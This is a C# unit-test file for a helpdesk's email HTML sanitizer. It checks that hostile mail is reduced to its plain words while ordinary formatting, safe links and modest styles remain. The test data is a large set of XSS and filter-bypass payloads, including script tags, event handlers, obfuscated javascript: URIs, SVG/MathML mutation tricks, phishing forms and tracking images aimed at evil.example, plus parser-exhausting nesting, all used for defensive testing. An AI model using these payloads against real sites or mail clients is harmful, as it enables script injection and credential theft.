using AngleSharp.Html.Parser;
using Helpdesk.Functions.Email;

namespace Helpdesk.Functions.Tests.Email;

public sealed class SafeHtmlTests
{
    private static readonly string[] Harmless =
    [
        .. "a abbr acronym address article aside b bdi bdo big blockquote br caption center cite code col colgroup dd del dfn div dl dt em".Split(' '),
        .. "figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark ol p pre q s samp section small span".Split(' '),
        .. "strike strong sub sup table tbody td tfoot th thead time tr tt u ul var wbr".Split(' '),
    ];

    private static readonly string[] HarmlessAttributes =
    [
        .. "align alt bgcolor border cellpadding cellspacing color colspan data-remote-src dir face height href lang referrerpolicy rel rowspan size".Split(
            ' '
        ),
        .. "span src start style target title type valign width".Split(' '),
    ];

    private static readonly string[] Dangerous =
    [
        .. "javascript: vbscript: expression( url( @import behavior -moz-binding position z-index transform opacity image( content:".Split(' '),
    ];

    /// <summary>Every hostile page says "words"; that is all that may be left of what it wants.</summary>
    [Theory]
    [InlineData("words<script>alert(1)</script>")]
    [InlineData("words<SCRIPT SRC=//evil.example/x.js></SCRIPT>")]
    [InlineData("words<scr<script>ipt>alert(1)</scr</script>ipt>")]
    [InlineData("words<img src=x onerror=alert(1)>")]
    [InlineData("words<img src=\"x\" ONERROR = 'alert(1)' / >")]
    [InlineData("words<img/src=x/onerror=alert(1)>")]
    [InlineData("<body onload=alert(1)>words")]
    [InlineData("<div onmouseover=alert(1) onclick=alert(2)>words</div>")]
    [InlineData("<a href=\"javascript:alert(1)\">words</a>")]
    [InlineData("<a href=\"JaVaScRiPt:alert(1)\">words</a>")]
    [InlineData("<a href=\"java\nscript:alert(1)\">words</a>")]
    [InlineData("<a href=\"&#106;avascript&colon;alert(1)\">words</a>")]
    [InlineData("<a href=\" &#1; javascript:alert(1)\">words</a>")]
    [InlineData("<a href=\"vbscript:msgbox(1)\">words</a>")]
    [InlineData("<a href=\"data:text/html,<script>alert(1)</script>\">words</a>")]
    [InlineData("<a href=\"/api/tickets/1/close\">words</a>")]
    [InlineData("<a href=\"//evil.example\">words</a>")]
    [InlineData("<a href=\"file:///etc/passwd\">words</a>")]
    [InlineData("words<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">")]
    [InlineData("words<img src=\"data:text/html;base64,PHNjcmlwdD4=\">")]
    [InlineData("words<svg onload=alert(1)><script>alert(1)</script></svg>")]
    [InlineData("words<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>")]
    [InlineData("words<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>")]
    [InlineData("words<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">x</mi></math>")]
    [InlineData("words<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\"></math>")]
    [InlineData("words<iframe src=\"https://evil.example\"></iframe>")]
    [InlineData("words<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">")]
    [InlineData("words<object data=\"https://evil.example/x.swf\"></object>")]
    [InlineData("words<embed src=\"https://evil.example/x.swf\">")]
    [InlineData("words<applet code=x></applet>")]
    [InlineData("<form action=\"https://evil.example\"><input name=password>words<button>Sign in</button></form>")]
    [InlineData("words<input type=image src=x formaction=javascript:alert(1)>")]
    [InlineData("words<textarea autofocus onfocus=alert(1)></textarea>")]
    [InlineData("words<select><option onclick=alert(1)>a</option></select>")]
    [InlineData("words<meta http-equiv=refresh content=\"0;url=https://evil.example\">")]
    [InlineData("words<base href=\"https://evil.example/\">")]
    [InlineData("words<link rel=stylesheet href=\"https://evil.example/x.css\">")]
    [InlineData("words<style>@import 'https://evil.example/x.css'; body{display:none}</style>")]
    [InlineData("<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:#fff\">words</div>")]
    [InlineData("<div style=\"position:absolute;top:-500px\">words</div>")]
    [InlineData("<div style=\"margin-top:-900px\">words</div>")]
    [InlineData("<div style=\"transform:translateY(-500px) scale(50)\">words</div>")]
    [InlineData("<div style=\"background:url(https://evil.example/x.png)\">words</div>")]
    [InlineData("<div style=\"background-image:u\\72l('https://evil.example/x.png')\">words</div>")]
    [InlineData("<div style=\"width:expression(alert(1))\">words</div>")]
    [InlineData("<div style=\"-moz-binding:url(x.xml);behavior:url(x.htc)\">words</div>")]
    [InlineData("<div style=\"color:red;/**/position/**/:/**/fixed\">words</div>")]
    [InlineData("<div style=\"list-style:url(https://evil.example/x.png);cursor:url(x)\">words</div>")]
    [InlineData("<div style=\"opacity:0;color:re\0d\">words</div>")]
    [InlineData("<table background=\"https://evil.example/x.png\"><td background=x>words</td></table>")]
    [InlineData("<video poster=\"https://evil.example/x.png\" autoplay src=x></video>words")]
    [InlineData("<audio src=\"https://evil.example/x.mp3\" autoplay onplay=alert(1)></audio>words")]
    [InlineData("words<picture><source srcset=\"https://evil.example/x.png\"><img srcset=\"https://evil.example/x.png 2x\"></picture>")]
    [InlineData("words<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>")]
    [InlineData("words<template><script>alert(1)</script></template>")]
    [InlineData("words<xmp><img src=x onerror=alert(1)></xmp>")]
    [InlineData("words<!--><img src=x onerror=alert(1)>-->")]
    [InlineData("words<![CDATA[<img src=x onerror=alert(1)>]]>")]
    [InlineData("words<!--[if gte mso 9]><xml><script>alert(1)</script></xml><![endif]-->")]
    [InlineData("<p id=cookie name=forms class=overlay tabindex=1 accesskey=x contenteditable>words</p>")]
    [InlineData("<marquee onstart=alert(1)>words</marquee>")]
    [InlineData("<details open ontoggle=alert(1)>words</details>")]
    [InlineData("<a ping=\"https://evil.example\" download href=\"https://example.org\" target=_top>words</a>")]
    [InlineData("words<map name=m><area href=\"javascript:alert(1)\" shape=rect></map><img usemap=#m>")]
    [InlineData("words<dialog open>Sign in</dialog>")]
    [InlineData("<<b onclick=alert(1)>words</b>")]
    [InlineData("<b <script>alert(1)</script>>words</b>")]
    [InlineData("words<isindex action=javascript:alert(1) type=image>")]
    [InlineData("<custom-tag onclick=alert(1)>words</custom-tag>")]
    public void Hostile_pages_keep_nothing_but_their_words(string html)
    {
        var safe = SafeHtml.Of(html, _ => "/files/1").Html;
        Assert.Contains("words", safe, StringComparison.Ordinal);
        var document = new HtmlParser().ParseDocument(safe);
        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            Assert.Contains(element.LocalName, Harmless);
            foreach (var attribute in element.Attributes)
            {
                Assert.Contains(attribute.Name, HarmlessAttributes);
                Assert.All(Dangerous, word => Assert.DoesNotContain(word, attribute.Value, StringComparison.OrdinalIgnoreCase));
            }

            Assert.True(element.GetAttribute("href") is null or ['h', 't', 't', 'p', ..] or ['m', 'a', 'i', 'l', ..]);
            Assert.True(element.GetAttribute("src") is null or "/files/1");
            if (element.HasAttribute("href"))
                Assert.Equal(("noopener noreferrer nofollow", "_blank"), (element.GetAttribute("rel"), element.GetAttribute("target")));
            Assert.DoesNotContain("margin-top: -", element.GetAttribute("style") ?? "", StringComparison.Ordinal);
        }

        // A browser that reads it again and again reads the same.
        Assert.Equal(safe, document.Body!.InnerHtml.Trim());
    }

    [Theory]
    [InlineData("<p>Hello <b>Ana</b>,<br>it <i>works</i>.</p>", "<p>Hello <b>Ana</b>,<br>it <i>works</i>.</p>")]
    [InlineData(
        "<a href=\"https://example.org/a?b=c\">here</a>",
        "<a href=\"https://example.org/a?b=c\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">here</a>"
    )]
    [InlineData(
        "<a href=\"mailto:a@example.org\">mail</a>",
        "<a href=\"mailto:a@example.org\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">mail</a>"
    )]
    [InlineData("<o:p>Outlook</o:p>", "Outlook")]
    [InlineData("<ul><li>one</li><li>two</li></ul>", "<ul><li>one</li><li>two</li></ul>")]
    [InlineData("<font color=\"red\" face=\"Arial\">old</font>", "<font color=\"red\" face=\"Arial\">old</font>")]
    [InlineData("<form>asked <b>for</b></form>", "asked <b>for</b>")]
    [InlineData("a &lt;b&gt; &amp; c", "a &lt;b&gt; &amp; c")]
    [InlineData("", "")]
    [InlineData("Grüße, Ελλάδα, 日本", "Grüße, Ελλάδα, 日本")]
    public void What_people_write_stays(string html, string safe) => Assert.Equal(safe, SafeHtml.Of(html).Html);

    [Theory]
    [InlineData("color: red", "color")]
    [InlineData("font-family: Calibri, sans-serif", "Calibri")]
    [InlineData("background-color: #ff0", "background-color")]
    [InlineData("margin-left: 36pt", "36pt")]
    [InlineData("text-align: center", "center")]
    public void Modest_styles_stay(string style, string part) =>
        Assert.Contains(part, SafeHtml.Of($"<p style=\"{style}; position: fixed\">x</p>").Html, StringComparison.Ordinal);

    [Fact]
    public void Pictures_of_the_mail_are_shown_and_those_elsewhere_when_asked_for()
    {
        const string html =
            "<img src=\"cid:logo%40x\" alt=\"Logo\"><img src=\"cid:gone\" alt=\"Gone\"><img src=\"https://tracker.example/p.gif?u=1\" width=\"1\">"
            + "<img src=\"data:image/png;base64,iVBORw0KGgo=\">";
        var page = SafeHtml.Of(html, id => id == "logo@x" ? "/files/logo" : null);
        Assert.Equal(1, page.RemotePictures);
        Assert.Equal(
            "<img alt=\"Logo\" src=\"/files/logo\"><img alt=\"Gone\"><img width=\"1\" data-remote-src=\"https://tracker.example/p.gif?u=1\">"
                + "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
            page.Html
        );
        var loaded = SafeHtml.Of(html, _ => null, remote: true);
        Assert.Equal(0, loaded.RemotePictures);
        Assert.Contains("src=\"https://tracker.example/p.gif?u=1\" referrerpolicy=\"no-referrer\"", loaded.Html, StringComparison.Ordinal);
    }

    /// <summary>Tags that are not nested as they should be are common, and no reason to show the text only.</summary>
    [Theory]
    [InlineData("<div><b>x</div></b>")]
    [InlineData("<p><div>x</p></div>")]
    [InlineData("<!-- <div> --><p>x</p>")]
    [InlineData("<p title=\"<div>\">x</p>")]
    [InlineData("<p title=it's>x</p>")]
    [InlineData("<table><tr><td>x</table>")]
    public void Sloppy_pages_keep_their_form(string piece)
    {
        Assert.True(HtmlMail.IsBearable(string.Concat(Enumerable.Repeat(piece, 600))));
        Assert.DoesNotContain(
            "&lt;",
            SafeHtml.Of(string.Concat(Enumerable.Repeat(piece, 600))).Html.Replace("title=\"&lt;", "", StringComparison.Ordinal),
            StringComparison.Ordinal
        );
    }

    /// <summary>What would keep a parser busy for hours, or overflow its stack, is shown as text.</summary>
    [Theory]
    [InlineData("<div>", 100_000)]
    [InlineData("<b>", 100_000)]
    [InlineData("<blockquote>", 50_000)]
    [InlineData("<b><p>", 50_000)]
    [InlineData("<table><tr><td>", 50_000)]
    [InlineData("<a href=x><div>", 50_000)]
    [InlineData("<p>", 100_000)]
    [InlineData("<li>", 100_000)]
    [InlineData("<td>", 100_000)]
    [InlineData("< ", 500_000)]
    [InlineData("&", 1_000_000)]
    [InlineData("<svg>", 50_000)]
    [InlineData("<div><!-- </div> -->", 50_000)]
    [InlineData("<div title=\"</div>\">", 50_000)]
    [InlineData("<div><object></div></object>", 30_000)]
    [InlineData("<div><style></div></style>", 30_000)]
    [InlineData("<div><b a=1></div>", 50_000)]
    [InlineData("<blockquote></blockquote>", 30_000)]
    [InlineData("<img src=cid:x>", 30_000)]
    public void Hostile_nesting_is_shown_as_text(string piece, int times)
    {
        var html = string.Concat(Enumerable.Repeat(piece, times)) + "words";
        Assert.Contains("words", SafeHtml.Of(html).Html, StringComparison.Ordinal);
        Assert.Contains("words", HtmlMail.Text(html), StringComparison.Ordinal);
        HtmlMail.WithoutQuotes(html);
    }

    [Fact]
    public void Formatting_that_is_never_closed_is_not_opened_again_for_every_paragraph()
    {
        var open = string.Concat(Enumerable.Range(0, 390).Select(number => $"<b title={number}>"));
        var html = open + string.Concat(Enumerable.Repeat("<p>x</p>", 50_000)) + "words";
        Assert.Contains("words", SafeHtml.Of(html).Html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<div style='display:none'>Preview</div><p>Words</p>", "Words")]
    [InlineData("<div style='DISPLAY : none !important; color:red'>Preview</div><p>Words</p>", "Words")]
    [InlineData("<span hidden>Preview</span><p>Words</p>", "Words")]
    [InlineData("<div style='max-height:0;overflow:hidden'>Preview</div>Words", "Words")]
    [InlineData("<div style='mso-hide:all'>For others than Outlook</div>", "For others than Outlook")]
    [InlineData("<div style='font-size:0'><span style='font-size:14px'>Layout</span></div>", "Layout")]
    [InlineData("<div style='display:none'>All there is</div>", "All there is")]
    [InlineData("<div style='display:block;opacity:0.9'>Seen</div>", "Seen")]
    [InlineData("<blockquote><p>Quoted</p><p style='visibility:hidden'>Preview</p></blockquote>", "> Quoted")]
    public void What_a_mail_hides_is_not_among_its_words(string html, string words) => Assert.Equal(words, HtmlMail.Text(html));
}
